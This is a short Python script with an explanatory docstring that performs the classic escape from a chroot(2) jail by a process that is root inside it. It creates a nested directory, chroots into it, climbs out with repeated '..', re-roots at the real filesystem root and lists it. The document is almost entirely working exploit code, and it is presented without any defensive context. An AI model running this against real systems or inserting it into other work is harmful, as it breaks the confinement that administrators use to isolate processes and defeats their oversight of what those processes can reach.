"""The oldest way out of a chroot(2), by somebody who is root in it.

chroot(2) changes where "/" begins, and not where one stands. Who makes a second root below the
first stands outside of it, and from there ".." leads up to the real one.
"""

import os
import sys

os.chdir("/")
os.makedirs("/deeper", exist_ok=True)
os.chroot("/deeper")  # "/" is deeper now than where we stand
for _ in range(64):
    os.chdir("..")
os.chroot(".")
root = os.stat("/")
print(f"root {root.st_dev}:{root.st_ino}", *sorted(os.listdir("/"))[:8], file=sys.stdout)
